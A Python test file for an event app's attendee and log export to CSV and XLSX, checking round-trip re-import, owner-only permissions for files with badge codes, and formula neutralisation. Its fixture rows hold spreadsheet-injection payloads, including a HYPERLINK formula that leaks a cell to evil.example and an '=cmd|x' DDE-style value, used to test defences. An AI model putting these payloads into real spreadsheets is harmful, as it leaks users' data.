"""Export: attendees and logs to CSV (UTF-8 BOM) and XLSX, round trip, formula neutralisation;
badge and ticket codes only when asked, in a file only its owner can read."""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from db.engine import open_store
from db.models import Attendee, CheckIn, PrintLog, TicketCode
from desktop.base.errors import UserError
from desktop.cli import main
from desktop.core.attendee_export import export
from desktop.core.events import create_event, current_event
from tests.core.import_support import people, run_import, write_csv

HEADER = ["ID", "First name", "Last name", "中文姓名", "Email", "Company", "Phone", "Category",
          "Secret", "Notes", "Dietary", "How did you hear?"]  # fmt: skip
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ROWS = [
    ["1", "Tai Man", "Chan", "陳大文", "tm@example.hk", "HKUST", "+852 9123 4567", "speaker",
     "sec-001", "", "vegetarian", "friend"],
    ["2", EVIL, "Hacker", "", "evil@example.org", "@SUM(1+1)", "-5", "attendee", "sec-002",
     "\tindented", "", "=1+1"],
    ["3", "Zoë", "Núñez", "", "zoe@example.es", "Café Zoë", "", "vip", "", "line one", "halal",
     ""],
]  # fmt: skip


def _fill(store, tmp_path: Path) -> None:
    result = run_import(store, write_csv(tmp_path / "in.csv", HEADER, ROWS))
    assert result.created == 3 and result.rejected == 0


def _fresh_store(path: Path):
    s = open_store(str(path), create=True)
    with s.session() as sess:
        create_event(sess, "Other", "Asia/Hong_Kong")
    return s


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_then_reimport_gives_identical_attendees(store, tmp_path: Path, suffix: str):
    _fill(store, tmp_path)
    out = tmp_path / f"attendees.{suffix}"
    with store.session() as s:
        res = export(s, current_event(s), out, with_codes=True)
    assert res.rows == 3 and res.with_codes
    other = _fresh_store(tmp_path / "other.sqlite")
    try:
        result = run_import(other, out)
        assert result.preset == "confdesk" and (result.created, result.rejected) == (3, 0)
        # The same people, each also accepting the badge code printed by the first store.
        with store.factory() as s:
            old_badges = list(s.scalars(select(Attendee.badge_code).order_by(Attendee.number)))
        expected = [
            {**p, "tickets": sorted([*p["tickets"], (code, "confdesk")])}
            for p, code in zip(people(store), old_badges, strict=True)
        ]
        assert people(other) == expected
        assert people(store)[1]["given_name"] == EVIL
    finally:
        other.close()
    # Back into the same store: everyone matched, nothing changed.
    again = run_import(store, out)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 3)


def test_csv_is_utf8_with_bom_and_formulas_are_neutralised(store, tmp_path: Path) -> None:
    _fill(store, tmp_path)
    out = tmp_path / "a.csv"
    with store.session() as s:
        export(s, current_event(s), out, with_codes=True)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    hacker = rows[1]
    assert hacker["Given name"] == "'" + EVIL
    assert hacker["Organization"] == "'@SUM(1+1)"
    assert hacker["Phone"] == "'-5"
    assert hacker["Notes"] == "'\tindented"
    assert hacker["How did you hear?"] == "'=1+1"
    assert rows[0]["Phone"] == "'+852 9123 4567"
    assert rows[0]["Name (local script)"] == "陳大文"
    assert rows[0]["Ticket codes"] == "import:sec-001"
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_xlsx_has_no_formula_cells_and_keeps_values(store, tmp_path: Path) -> None:
    _fill(store, tmp_path)
    out = tmp_path / "a.xlsx"
    with store.session() as s:
        export(s, current_event(s), out)
    ws = openpyxl.load_workbook(out).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    hacker = [c for c in next(iter(ws.iter_rows(min_row=3, max_row=3)))]
    given = hacker[header.index("Given name")]
    assert given.value == EVIL and given.data_type == "s" and given.quotePrefix
    assert hacker[header.index("How did you hear?")].value == "=1+1"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_checkin_and_print_logs(store, tmp_path: Path, suffix: str) -> None:
    _fill(store, tmp_path)
    at = dt.datetime(2026, 9, 27, 1, 30)  # 09:30 in Hong Kong
    with store.session() as s:
        a = s.scalars(select(Attendee).where(Attendee.email == "tm@example.hk")).one()
        s.add(CheckIn(event_id=a.event_id, attendee_id=a.id, result="checked_in",
                      code=a.badge_code, desk="Desk 1", operator="amy", at=at))  # fmt: skip
        s.add(CheckIn(event_id=a.event_id, attendee_id=None, result="unknown", code="=cmd|x",
                      desk="Desk 2", at=at + dt.timedelta(minutes=1)))  # fmt: skip
        s.add(PrintLog(event_id=a.event_id, attendee_id=a.id, kind="desk", template="Default",
                       destination="PDF", desk="Desk 1", at=at))  # fmt: skip
    for what, expected in [
        ("checkins", [["2026-09-27 09:30:00", "checked_in", "1", "Tai Man", "Chan"],
                      ["2026-09-27 09:31:00", "unknown", "", "", ""]]),
        ("prints", [["2026-09-27 09:30:00", "desk", "1", "Tai Man", "Chan"]]),
    ]:  # fmt: skip
        out = tmp_path / f"{what}.{suffix}"
        with store.session() as s:
            assert export(s, current_event(s), out, what, with_codes=True).rows == len(expected)
        if suffix == "csv":
            with out.open(encoding="utf-8-sig", newline="") as fh:
                got = list(csv.reader(fh))[1:]
        else:
            ws = openpyxl.load_workbook(out).active
            got = [
                [("" if v is None else v.isoformat(sep=" ") if isinstance(v, dt.datetime) else str(v))
                 for v in row]
                for row in ws.iter_rows(min_row=2, values_only=True)
            ]  # fmt: skip
        assert [r[:5] for r in got] == expected
        if what == "checkins":
            assert got[1][5] in ("'=cmd|x", "=cmd|x")  # neutralised in CSV, text in XLSX


def test_export_refusals_and_cli(store, event_db: Path, tmp_path: Path, capsys) -> None:
    with store.session() as s, pytest.raises(UserError, match=r"give the file a \.csv or \.xlsx"):
        export(s, current_event(s), tmp_path / "x.txt")
    db = ["--db", str(event_db)]
    assert main([*db, "attendees", "export", str(tmp_path / "nope" / "x.csv")]) == 2
    assert "no folder" in capsys.readouterr().err
    _fill(store, tmp_path)
    assert main([*db, "attendees", "export", str(tmp_path / "a.xlsx"), "--what", "attendees"]) == 0
    assert "wrote 3 attendees rows" in capsys.readouterr().out


@pytest.mark.postgres
def test_moving_the_event_to_postgresql_keeps_printed_badges(
    store, pg_url: str, tmp_path: Path
) -> None:
    _fill(store, tmp_path)
    out = tmp_path / "move.csv"
    with store.session() as s:
        export(s, current_event(s), out, with_codes=True)
    with store.factory() as s:
        printed = {a.email: a.badge_code for a in s.scalars(select(Attendee))}
    venue = open_store(pg_url, create=True)
    try:
        with venue.session() as s:
            create_event(s, "At the venue", "Asia/Hong_Kong")
        result = run_import(venue, out)
        assert (result.created, result.rejected) == (3, 0)
        with venue.factory() as s:
            kept = {
                a.email: (t.code, t.source)
                for t, a in s.execute(
                    select(TicketCode, Attendee).join(
                        Attendee, TicketCode.attendee_id == Attendee.id
                    )
                )
                if t.source == "confdesk"
            }
            new_codes = set(s.scalars(select(Attendee.badge_code)))
        assert kept == {email: (code, "confdesk") for email, code in printed.items()}
        assert not new_codes & set(printed.values())
        # Importing the same file again adds nothing: the codes are already there.
        again = run_import(venue, out)
        assert (again.created, again.updated, again.unchanged) == (0, 0, 3)
    finally:
        venue.close()


def test_a_badge_code_column_of_another_store_becomes_a_ticket_code(store, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "b.csv",
        ["Name", "Email", "Badge code"],
        [["Ana Lima", "ana@example.org", "OLD1-1-ABCDEFGHIJKL"], ["Bo Ng", "bo@example.org", ""]],
    )
    result = run_import(store, path)
    assert result.preset == "" and (result.created, result.rejected) == (2, 0)
    assert result.mapping["badge_code"] == ["Badge code"]
    got = {p["email"]: p["tickets"] for p in people(store)}
    assert got == {"ana@example.org": [("OLD1-1-ABCDEFGHIJKL", "confdesk")], "bo@example.org": []}
    # This store's own badge code in such a column is not stored a second time; another
    # attendee's badge code is refused.
    with store.factory() as s:
        ana, bo = (a.badge_code for a in s.scalars(select(Attendee).order_by(Attendee.number)))
    write_csv(path, ["Name", "Email", "Badge code"], [["Ana Lima", "ana@example.org", ana]])
    assert run_import(store, path).unchanged == 1
    write_csv(path, ["Name", "Email", "Badge code"], [["Ana Lima", "ana@example.org", bo]])
    refused = run_import(store, path)
    assert not refused.applied
    assert [p.message for p in refused.problems] == [
        f"ticket code {bo!r} is the badge code of attendee #2"
    ]


def test_export_and_reimport_on_both_backends(backend_store, tmp_path: Path) -> None:
    _fill(backend_store, tmp_path)
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"all.{suffix}"
        with backend_store.session() as s:
            assert export(s, current_event(s), out, with_codes=suffix == "xlsx").rows == 3
        again = run_import(backend_store, out)
        assert (again.created, again.updated, again.unchanged) == (0, 0, 3)


def _csv_dicts(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_codes_only_when_asked_and_then_for_the_owner_only(
    store, tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fill(store, tmp_path)
    with store.session() as s:
        a = s.scalars(select(Attendee).where(Attendee.email == "tm@example.hk")).one()
        badge = a.badge_code
        s.add(CheckIn(event_id=a.event_id, attendee_id=a.id, result="checked_in",
                      code=badge, desk="Desk 1"))  # fmt: skip
    old_umask = os.umask(0o022)
    try:
        plain = tmp_path / f"plain.{suffix}"
        log = tmp_path / f"log.{suffix}"
        with store.session() as s:
            assert not export(s, current_event(s), plain).with_codes
            export(s, current_event(s), log, "checkins")
        # Without codes the file holds no working code: no badge code, no ticket code.
        for path in (plain, log):
            text = _text_of(path)
            assert badge not in text and "sec-001" not in text
        assert _mode(plain) == 0o644
        # With codes: readable by its owner only, from the moment it exists (never chmod'ed;
        # even a permissive umask gives 0600).
        os.umask(0)

        def no_chmod(*_a, **_k):
            raise AssertionError("the export must be created 0600, not chmod'ed")

        monkeypatch.setattr(os, "chmod", no_chmod)
        monkeypatch.setattr(os, "fchmod", no_chmod)
        secret = tmp_path / f"secret.{suffix}"
        plain.replace(secret)  # an older file of that name, world-readable, is replaced
        with store.session() as s:
            assert export(s, current_event(s), secret, with_codes=True).with_codes
            export(s, current_event(s), log, "checkins", with_codes=True)
        monkeypatch.undo()
        assert _mode(secret) == 0o600 and _mode(log) == 0o600
        assert badge in _text_of(secret) and "sec-001" in _text_of(secret)
        assert badge in _text_of(log)
        assert not list(tmp_path.glob(".*.part"))
    finally:
        os.umask(old_umask)


def _text_of(path: Path) -> str:
    if path.suffix == ".csv":
        return path.read_text(encoding="utf-8-sig")
    ws = openpyxl.load_workbook(path).active
    return "\n".join(
        ",".join("" if v is None else str(v) for v in row) for row in ws.iter_rows(values_only=True)
    )


def test_export_without_codes_still_reimports_the_same_people(store, tmp_path: Path) -> None:
    _fill(store, tmp_path)
    out = tmp_path / "plain.csv"
    with store.session() as s:
        export(s, current_event(s), out)
    rows = _csv_dicts(out)
    # The columns stay (an import recognises the file), empty.
    assert {r["Badge code"] for r in rows} == {r["Ticket codes"] for r in rows} == {""}
    other = _fresh_store(tmp_path / "other.sqlite")
    try:
        result = run_import(other, out)
        assert (result.created, result.rejected) == (3, 0)
        expected = [{**p, "tickets": []} for p in people(store)]
        assert people(other) == expected
    finally:
        other.close()


def test_print_log_export_says_what_the_spooler_said(store, tmp_path: Path) -> None:
    from desktop.core.badges import log_prints

    _fill(store, tmp_path)
    with store.session() as s:
        ev = current_event(s)
        a, b = s.scalars(select(Attendee.id).order_by(Attendee.number).limit(2)).all()
        log_prints(s, ev, [a], "desk", "a6", "Zebra", job="Zebra-3")
        log_prints(s, ev, [b], "desk", "a6", "Zebra", status="failed", error="printer stopped")
    out = tmp_path / "prints.csv"
    with store.session() as s:
        export(s, current_event(s), out, "prints")
    got = [(r["Status"], r["Job"], r["Error"]) for r in _csv_dicts(out)]
    assert got == [("printed", "Zebra-3", ""), ("failed", "", "printer stopped")]


def test_cli_export_with_codes(store, event_db: Path, tmp_path: Path, capsys) -> None:
    _fill(store, tmp_path)
    db = ["--db", str(event_db)]
    assert main([*db, "attendees", "export", str(tmp_path / "a.csv")]) == 0
    out = capsys.readouterr().out
    assert "wrote 3 attendees rows" in out and "without badge and ticket codes" in out
    assert {r["Badge code"] for r in _csv_dicts(tmp_path / "a.csv")} == {""}
    assert main([*db, "attendees", "export", str(tmp_path / "c.csv"), "--with-codes"]) == 0
    out = capsys.readouterr().out
    assert "with badge and ticket codes" in out and "readable by you only" in out
    assert _mode(tmp_path / "c.csv") == 0o600
    assert all(r["Badge code"] for r in _csv_dicts(tmp_path / "c.csv"))
    assert main(["attendees", "export", "--help"]) == 0
    assert "--with-codes" in capsys.readouterr().out


def test_formula_like_headers_and_apostrophes_come_back_as_they_were(store, tmp_path: Path) -> None:
    """An extra column named `=Extra(1)` and values that really start with an apostrophe
    (`'=kept`, `'tis`) survive export -> re-import: nothing reported as changed."""
    header = ["First name", "Last name", "Email", "=Extra(1)", "Motto"]
    rows = [
        ["Ann", "Lee", "ann@example.org", "a", "'=kept"],
        ["Bo", "Wu", "bo@example.org", "b", "'tis"],
        ["Cy", "Ho", "cy@example.org", "=2+2", "plain"],
    ]
    assert run_import(store, write_csv(tmp_path / "in.csv", header, rows)).created == 3
    with store.session() as s:  # typed in the app: the apostrophe is part of the value
        first = s.scalar(select(Attendee).where(Attendee.given_name == "Ann"))
        first.extra = {**first.extra, "Motto": "'=kept"}
    before = people(store)
    out = tmp_path / "out.csv"
    with store.session() as s:
        export(s, current_event(s), out)
    again = run_import(store, out)
    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, 3, 0)
    assert people(store) == before
    with store.factory() as s:
        extras = [a.extra for a in s.scalars(select(Attendee).order_by(Attendee.number))]
    assert [e["=Extra(1)"] for e in extras] == ["a", "b", "=2+2"]
    assert [e["Motto"] for e in extras] == ["'=kept", "'tis", "plain"]
